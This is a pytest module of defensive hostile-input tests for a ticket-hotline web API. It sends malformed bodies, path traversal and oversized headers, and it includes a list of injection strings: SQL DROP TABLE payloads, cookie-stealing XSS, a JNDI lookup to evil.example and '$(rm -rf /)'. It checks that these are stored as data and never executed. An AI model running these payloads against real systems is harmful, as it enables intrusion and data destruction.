"""Hostile input: oversized and malformed bodies, injection strings, odd paths, queries and headers.

Every answer is a 4xx in the one JSON error shape (never a 5xx, never a hang);
injection strings are stored and returned byte for byte and never executed.
"""
from __future__ import annotations

import json
import uuid

import pytest

from models.enums import Role

RUGAO = "320682"

INJECTIONS = [
    "'); DROP TABLE tickets;--",
    "\"; DELETE FROM api_tokens; --",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %n %x",
    "../../../../etc/passwd",
    "$(rm -rf /) `id`",
    "\\x00 \\u0000 不是空字节",
    "小区'门口\"烧烤\\摊；DROP TABLE units;",
]


def ticket_body(**over) -> dict:
    body = {"channel": "phone", "content": "小区楼下烧烤摊每天晚上占道经营到凌晨", "area_code": RUGAO}
    body.update(over)
    return body


async def post_ticket(client, headers, payload, *, raw: bytes | None = None, extra_headers=None):
    h = {**headers, **(extra_headers or {})}
    if raw is not None:
        h.setdefault("Content-Type", "application/json")
        return await client.post("/api/v1/tickets", data=raw, headers=h)
    return await client.post("/api/v1/tickets", json=payload, headers=h)


async def assert_error(resp, *statuses: int) -> dict:
    """A 4xx among statuses, in the JSON error shape."""
    text = await resp.text()
    assert resp.status in statuses, (resp.status, text[:500])
    data = json.loads(text)
    assert isinstance(data["message"], str) and isinstance(data["details"], list), data
    return data


async def tables_intact(pool) -> None:
    for table in ("tickets", "api_tokens", "units", "ticket_events", "areas"):
        assert await pool.fetchval("SELECT to_regclass($1) IS NOT NULL", table), table
    assert await pool.fetchval("SELECT count(*) FROM api_tokens") > 0
    assert await pool.fetchval("SELECT count(*) FROM units") > 0


@pytest.fixture(scope="module")
async def linkage(tokens) -> dict:
    return await tokens.make(Role.LINKAGE)


@pytest.fixture(scope="module")
async def admin(tokens) -> dict:
    return await tokens.make(Role.ADMIN)


# --- bodies -------------------------------------------------------------------------------------

@pytest.mark.parametrize("size", [64 * 1024 + 1, 2 * 1024 * 1024])
async def test_huge_body_is_413(client, agent, size):
    raw = json.dumps(ticket_body(content="占" * size)).encode()
    await assert_error(await post_ticket(client, agent, None, raw=raw), 413)


async def test_huge_chunked_body_is_413(client, agent):
    """No Content-Length: the limit still applies while reading."""
    async def gen():
        yield b'{"channel": "phone", "content": "'
        for _ in range(256):
            yield b"x" * 8192
        yield b'"}'

    resp = await client.post("/api/v1/tickets", data=gen(), headers={**agent, "Content-Type": "application/json"})
    await assert_error(resp, 413)


async def test_content_over_field_limit_is_422(client, agent):
    data = await assert_error(await post_ticket(client, agent, ticket_body(content="x" * 5001)), 422)
    assert data["details"][0]["field"] == "content"


@pytest.mark.parametrize("raw", [
    b"[" * 30000 + b"]" * 30000,
    b'{"a":' * 10000 + b"1" + b"}" * 10000,
    b'{"channel": "phone", "content": ' + b"[" * 5000 + b"]" * 5000 + b"}",
], ids=["deep-array", "deep-object", "deep-in-field"])
async def test_deep_json(client, agent, raw):
    await assert_error(await post_ticket(client, agent, None, raw=raw), 400, 422)


@pytest.mark.parametrize("raw", [
    b'{"channel": "phone", "content": "\xff\xfe\xfd"}',
    b'{"channel": "phone", "content": "\xc3\x28"}',
    b'\xef\xbb\xbf{"channel": "phone", "content": "BOM"}',
    "{\"channel\": \"phone\", \"content\": \"中文\"}".encode("gbk"),
], ids=["ff-fe", "bad-continuation", "utf8-bom", "gbk"])
async def test_invalid_utf8_is_400(client, agent, raw):
    await assert_error(await post_ticket(client, agent, None, raw=raw), 400)


@pytest.mark.parametrize("raw", [
    b"", b"   ", b"null", b"[]", b'"text"', b"{", b"{'single': 'quotes'}", b'{"a": NaN}',
    b'{"channel": "phone", "content": "x", "content": "y"}',
], ids=["empty", "blank", "null", "array", "string", "truncated", "single-quotes", "nan", "duplicate-key"])
async def test_malformed_json(client, agent, raw):
    resp = await post_ticket(client, agent, None, raw=raw)
    # A duplicate key is valid JSON (last one wins): the body is then merely invalid or accepted.
    if resp.status == 201:
        assert raw.count(b'"content"') == 2
        return
    await assert_error(resp, 400, 422)


@pytest.mark.parametrize("field", ["content", "title", "address", "requester.name", "requester.org"])
@pytest.mark.parametrize("bad", ["\u0000", "before\u0000after", "\u0007bell", "\x1b[31mred"], ids=["nul", "mid-nul", "bell", "ansi"])
async def test_control_characters_rejected(client, agent, field, bad):
    body = ticket_body()
    if field.startswith("requester."):
        body["requester"] = {field.split(".")[1]: bad}
    else:
        body[field] = bad if field != "content" else "占道经营" + bad
    data = await assert_error(await post_ticket(client, agent, body), 422)
    assert any(d["field"].endswith(field.split(".")[-1]) for d in data["details"]), data


async def test_raw_nul_byte_in_json_is_400(client, agent):
    raw = b'{"channel": "phone", "content": "a\x00b", "area_code": "320682"}'
    await assert_error(await post_ticket(client, agent, None, raw=raw), 400)


@pytest.mark.parametrize("text", ["\ud800", "前\udfff后", "\udbff\udc00ok"], ids=["lone-high", "lone-low", "pair"])
async def test_lone_surrogates_never_500(client, agent, pool, text):
    """\\ud800 is valid JSON but not encodable as UTF-8 (PostgreSQL would refuse it)."""
    raw = ('{"channel": "phone", "area_code": "320682", "content": "占道经营 %s"}'
           % json.dumps(text, ensure_ascii=True)[1:-1]).encode()
    resp = await post_ticket(client, agent, None, raw=raw)
    if resp.status == 201:  # a valid surrogate pair is one character: stored as such
        data = await resp.json()
        assert data["content"] == "占道经营 " + text.encode("utf-16", "surrogatepass").decode("utf-16")
        return
    await assert_error(resp, 400, 422)


async def test_wrong_content_type_still_json_or_4xx(client, agent):
    resp = await client.post("/api/v1/tickets", data="channel=phone&content=x",
                             headers={**agent, "Content-Type": "application/x-www-form-urlencoded"})
    await assert_error(resp, 400, 415, 422)


# --- injection strings are data --------------------------------------------------------------

async def test_injection_strings_stored_verbatim_in_tickets(client, agent, pool):
    for i, s in enumerate(INJECTIONS):
        body = ticket_body(content=f"{s}", title=s, address=s,
                           requester={"name": s[:100], "org": s})
        resp = await post_ticket(client, agent, body, extra_headers={"Idempotency-Key": f"inj-{uuid.uuid4()}"})
        assert resp.status == 201, (s, await resp.text())
        out = await resp.json()
        for key in ("content", "title", "address"):
            assert out[key] == s, (key, out[key], s)
        assert out["requester"]["name"] == s[:100] and out["requester"]["org"] == s
        again = await (await client.get(f"/api/v1/tickets/{out['id']}", headers=agent)).json()
        assert (again["content"], again["title"], again["address"]) == (s, s, s)
        row = await pool.fetchrow("SELECT content, title, address, requester_name, requester_org "
                                  "FROM tickets WHERE id = $1", out["id"])
        assert tuple(row) == (s, s, s, s[:100], s), i
        # The raw bytes of the response carry the string unescaped as JSON text (no HTML escaping games).
        raw = await (await client.get(f"/api/v1/tickets/{out['id']}", headers=agent)).read()
        assert json.dumps(s, ensure_ascii=False).encode() in raw
    await tables_intact(pool)


async def test_injection_strings_stored_verbatim_in_110_handoff(client, linkage, pool):
    for s in INJECTIONS:
        incident = f"INJ-{uuid.uuid4().hex[:12]}"
        body = {"incident_no": incident, "content": s, "address": s, "area_code": RUGAO,
                "requester": {"name": s[:100], "org": s}}
        resp = await client.post("/api/v1/linkage/110/handoffs", json=body, headers=linkage)
        assert resp.status == 201, (s, await resp.text())
        out = await resp.json()
        assert out["content"] == s and out["address"] == s and out["police_incident_no"] == incident
        assert out["requester"]["org"] == s
        row = await pool.fetchrow("SELECT content, address, requester_org FROM tickets WHERE id = $1", out["id"])
        assert tuple(row) == (s, s, s)
    await tables_intact(pool)


@pytest.mark.parametrize("incident", ["'; DROP TABLE tickets;--", "<script>", "../../x", "a" * 65, "", "中文"])
async def test_incident_number_injection_rejected(client, linkage, incident):
    body = {"incident_no": incident, "content": "噪音扰民", "area_code": RUGAO}
    resp = await client.post("/api/v1/linkage/110/handoffs", json=body, headers=linkage)
    data = await assert_error(resp, 422)
    assert data["details"][0]["field"] == "incident_no"


@pytest.mark.parametrize("field, value", [
    ("phone", "13800000000' OR '1'='1"), ("phone", "<script>"), ("id_number", "'; DROP TABLE tickets;--"),
    ("credit_code", "<script>alert(1)</script>"),
])
async def test_structured_fields_reject_injection(client, agent, field, value):
    data = await assert_error(await post_ticket(client, agent, ticket_body(requester={field: value})), 422)
    assert any(field in d["field"] for d in data["details"])


# --- paths, queries, headers -------------------------------------------------------------------

@pytest.mark.parametrize("raw_id", [
    "..%2F..%2Fetc%2Fpasswd", "..", "1%20OR%201=1", "1;DROP%20TABLE%20tickets", "-1", "0", "1e3", "0x10",
    "99999999999999999999999999", "%EF%BC%91%EF%BC%92", "%00", "1%00", "%3Cscript%3E", "9223372036854775807",
])
async def test_hostile_ticket_ids(client, agent, pool, raw_id):
    for suffix in ("", "/events", "/callbacks"):
        resp = await client.get(f"/api/v1/tickets/{raw_id}{suffix}", headers=agent)
        assert resp.status in (400, 404), (raw_id, suffix, resp.status, await resp.text())
        await assert_error(resp, 400, 404)
    resp = await client.post(f"/api/v1/tickets/{raw_id}/close", json={}, headers=agent)
    await assert_error(resp, 400, 404, 405)
    await tables_intact(pool)


@pytest.mark.parametrize("name", ["..%2F..%2Fhotline%2Fsettings.py", "..%2Fapp.py", "%2Fetc%2Fpasswd",
                                  "dashboard.js%00.txt", "....%2F%2Fetc%2Fpasswd"])
async def test_static_path_traversal(client, name):
    resp = await client.get(f"/static/{name}")
    assert resp.status in (400, 404), (name, resp.status)
    assert b"BaseSettings" not in await resp.read()


@pytest.mark.parametrize("query", [
    "limit=1000000000000000000000000000", "limit=-1", "limit=0", "limit=abc", "after=-5", "after=1e309",
    "created_from=not-a-date", "created_from=9999999-01-01", "status=%3Cscript%3E", "area=%27%3B+DROP+TABLE+tickets%3B--",
    "unknown=1", "status=received&status=closed", "category=" + "x" * 65,
    "created_from=2024-01-01T00:00:00%2B99:00",
    "after=99999999999999999999999",
])
async def test_absurd_query_params(client, agent, query):
    resp = await client.get(f"/api/v1/tickets?{query}", headers=agent)
    if resp.status == 200:
        assert "items" in await resp.json()
        return
    await assert_error(resp, 400, 422)


HOSTILE_QUERY_VALUES = [
    "320600",  # a real area code, for comparison
    "99999999999999999999999", "9223372036854775808", "2147483648", "-99999999999999999999", "1e309",
    "'; DROP TABLE tickets;--", "0001-01-01", "9999-12-31", "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-12:00", "\u0000", "ＡＢＣ１２３", "x" * 300,
]


# 500s found by this test in others' code, reported to the lead (issue 8) and expected
# to fail until fixed; a fixed one shows up as XPASS: then remove its entry.
KNOWN_5XX: dict[tuple[str, str], str] = {}


def _query_cases():
    from hotline.routes import all_endpoints

    out = []
    for ep in all_endpoints():
        if ep.query is None or ep.roles is None:
            continue
        for name, f in ep.query.model_fields.items():
            param = f.alias or name
            bug = KNOWN_5XX.get((ep.path, param))
            marks = [pytest.mark.xfail(reason=f"BUG: {bug}", strict=False)] if bug else []
            out.append(pytest.param(ep, param, id=f"{ep.path}?{param}", marks=marks))
    return out


@pytest.mark.parametrize("ep, param", _query_cases())
async def test_every_query_parameter_survives_hostile_values(client, tokens, pool, ep, param):
    """Each query parameter of each endpoint × numbers out of every integer range, extreme dates, text."""
    role = Role.ADMIN if Role.ADMIN in ep.roles else sorted(ep.roles)[0]
    unit = await pool.fetchval("SELECT id FROM units ORDER BY id LIMIT 1")
    headers = await tokens.make(role, unit_id=unit if role == Role.HANDLER else None,
                                area_code="320000" if role == Role.SUPERVISOR else None)
    base = {(f.alias or n): "2024-01-01" for n, f in ep.query.model_fields.items() if f.is_required()}
    failures = []
    for value in HOSTILE_QUERY_VALUES:
        resp = await client.get(ep.path, params={**base, param: value}, headers=headers)
        if resp.status >= 500:
            failures.append((value, resp.status, (await resp.text())[:200]))
        else:
            await resp.read()
    assert not failures, f"{ep.method} {ep.path}?{param}=…: {failures}"


async def test_injection_in_query_filters_is_parameterised(client, agent, pool):
    for q in ("unit=%27+OR+1%3D1--", "category=%27%29+OR+TRUE--"):
        resp = await client.get(f"/api/v1/tickets?{q}", headers=agent)
        assert resp.status == 200
        assert (await resp.json())["items"] == []
    await tables_intact(pool)


async def test_many_query_params_and_long_url(client, agent):
    many = "&".join(f"p{i}=1" for i in range(2000))
    resp = await client.get(f"/api/v1/tickets?{many}", headers=agent)
    assert 400 <= resp.status < 500
    resp = await client.get("/api/v1/tickets?category=" + "x" * 20000, headers=agent)
    assert 400 <= resp.status < 500


@pytest.mark.parametrize("key, status", [
    ("x" * 129, 400), ("x" * 4000, 400), ("   ", 400), ("k" + "\u200b" * 10, None), ("键-" + uuid.uuid4().hex, 201),
])
async def test_idempotency_key_abuse(client, agent, key, status):
    resp = await post_ticket(client, agent, ticket_body(), extra_headers={"Idempotency-Key": key})
    if status is None:
        assert resp.status in (201, 400)
    elif status == 201:
        assert resp.status == 201
    else:
        await assert_error(resp, status)


async def test_oversized_header_is_rejected_cleanly(client, agent):
    resp = await post_ticket(client, agent, ticket_body(), extra_headers={"Idempotency-Key": "k" * 20000})
    assert resp.status in (400, 431), resp.status


@pytest.mark.parametrize("auth", ["Bearer " + "A" * 6000, "Bearer ", "Basic YWRtaW46YWRtaW4=", "bearer",
                                  "Bearer hl_x' OR '1'='1", "Bearer \u4e2d\u6587", "Bearer a b c"])
async def test_authorization_header_abuse(client, auth):
    resp = await client.get("/api/v1/tickets", headers={"Authorization": auth.encode("utf-8").decode("latin-1")})
    await assert_error(resp, 401)


async def test_unsupported_method_is_405_json(client, agent):
    resp = await client.request("PUT", "/api/v1/tickets", json={}, headers=agent)
    await assert_error(resp, 405)
    resp = await client.request("DELETE", "/api/v1/tickets/1", headers=agent)
    await assert_error(resp, 405)


def _body_cases():
    from hotline.routes import all_endpoints

    out = []
    for ep in all_endpoints():
        if ep.body is None or ep.roles is None:
            continue
        for name, f in ep.body.model_fields.items():
            if "str" in str(f.annotation) and "Requester" not in str(f.annotation):
                bug = KNOWN_BODY_5XX.get((ep.path, name))
                marks = [pytest.mark.xfail(reason=f"BUG: {bug}", strict=False)] if bug else []
                out.append(pytest.param(ep, name, id=f"{ep.method} {ep.path} {name}", marks=marks))
    return out


# 500s found here and reported; empty since they were fixed (a new entry marks a known bug as xfail).
KNOWN_BODY_5XX: dict[tuple[str, str], str] = {}


@pytest.mark.parametrize("ep, field", _body_cases())
async def test_nul_in_every_body_text_field_never_500(client, tokens, pool, ep, field):
    """A NUL character in any text field of any body: rejected (4xx) or harmless, never a 5xx."""
    role = Role.ADMIN if Role.ADMIN in ep.roles else sorted(ep.roles)[0]
    unit = await pool.fetchval("SELECT id FROM units WHERE code = $1", f"{RUGAO}-urban_mgmt")
    headers = await tokens.make(role, unit_id=unit if role == Role.HANDLER else None,
                                area_code="320000" if role == Role.SUPERVISOR else None)
    resp = await client.post("/api/v1/tickets", json=ticket_body(), headers=await tokens.make(Role.AGENT))
    tid = (await resp.json())["id"]
    await pool.execute("UPDATE tickets SET unit_id = $1 WHERE id = $2", unit, tid)
    schema = ep.body.model_json_schema()
    body = {k: _sample(v, schema.get("$defs", {})) for k, v in schema.get("properties", {}).items()
            if k in schema.get("required", [])}
    ann = str(ep.body.model_fields[field].annotation)
    body[field] = ["x\u0000y"] if ann.startswith("list") else "x\u0000y"
    path = ep.path.replace("{id}", str(tid)).replace("{eid}", "1").replace("{token}", "sv_" + "a" * 30)
    resp = await client.post(path, json=body, headers=headers)
    assert resp.status < 500, (ep.path, field, resp.status, await resp.text())


def _sample(schema: dict, defs: dict):
    if "$ref" in schema:
        return _sample(defs[schema["$ref"].rsplit("/", 1)[-1]], defs)
    if "enum" in schema:
        return schema["enum"][0]
    if "anyOf" in schema:
        return _sample(schema["anyOf"][0], defs)
    kind = schema.get("type")
    if kind == "integer":
        return schema.get("minimum", 1)
    if kind == "boolean":
        return False
    if kind == "array":
        return []
    if kind == "object":
        return {}
    if "pattern" in schema:
        return {"^[0-9A-Za-z\\-_]+$": "NUL-1"}.get(schema["pattern"], "320682")
    return "x"


async def test_a_client_hanging_up_mid_body_is_not_a_database_failure(settings, agent, caplog):
    """`hotline serve` lets a handler run on when its client hangs up (aiohttp's default; the test
    server cancels it instead), so reading the rest of the body raises ConnectionResetError. That
    must not be taken for PostgreSQL going away, which logs a warning and drops every pooled
    connection."""
    import asyncio
    import socket

    from aiohttp import web

    from hotline import keys
    from hotline.app import create_app

    app = create_app(settings)
    runner = web.AppRunner(app)  # as web.run_app builds it: handler_cancellation=False
    await runner.setup()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    await web.TCPSite(runner, "127.0.0.1", port).start()
    try:
        generation = app[keys.POOL]._generation
        head = (f"POST /api/v1/tickets HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Authorization: {agent['Authorization']}\r\nContent-Length: 5000\r\n\r\n")
        with caplog.at_level("WARNING"):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(head.encode() + b'{"channel": "phone", "content": "')
            await writer.drain()
            await asyncio.sleep(0.2)  # the handler now waits for the rest of the body
            writer.transport.abort()
            await asyncio.sleep(0.3)
        assert "backend unavailable" not in caplog.text
        assert app[keys.POOL]._generation == generation, "the pool's connections were kept"
    finally:
        await runner.cleanup()
